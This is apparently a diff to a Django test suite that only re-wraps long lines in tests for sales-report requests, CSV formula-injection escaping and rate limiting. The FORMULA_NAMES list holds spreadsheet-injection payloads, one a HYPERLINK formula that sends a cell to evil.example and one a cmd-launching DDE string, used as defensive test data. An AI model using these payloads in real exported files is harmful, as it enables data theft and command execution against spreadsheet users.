@@ -26,7 +26,9 @@ def _csv(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
 
-def test_staff_request_a_sales_report_and_get_202_with_its_id_and_status(staff_client, django_capture_on_commit_callbacks):
+def test_staff_request_a_sales_report_and_get_202_with_its_id_and_status(
+    staff_client, django_capture_on_commit_callbacks
+):
     with django_capture_on_commit_callbacks() as jobs:
         response = staff_client.post(REPORTS_URL, {"start": "2025-01-01", "end": "2025-01-31"})
 
@@ -146,7 +148,14 @@ def _client_for(user):
     return client
 
 
-FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1",
+    "-cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_product_names_that_start_like_a_formula_are_text_in_the_sales_report(staff, staff_client):
@@ -242,7 +251,10 @@ def test_exports_over_the_rate_are_a_429_with_retry_after_per_user(user, user_cl
 
 def test_sales_reports_over_the_rate_are_a_429_with_retry_after(staff_client, report_requests_two_per_hour):
     for month in (1, 2):
-        assert staff_client.post(REPORTS_URL, {"start": f"2025-0{month}-01", "end": f"2025-0{month}-28"}).status_code == 202
+        assert (
+            staff_client.post(REPORTS_URL, {"start": f"2025-0{month}-01", "end": f"2025-0{month}-28"}).status_code
+            == 202
+        )
 
     response = staff_client.post(REPORTS_URL, {"start": "2025-03-01", "end": "2025-03-31"})
 
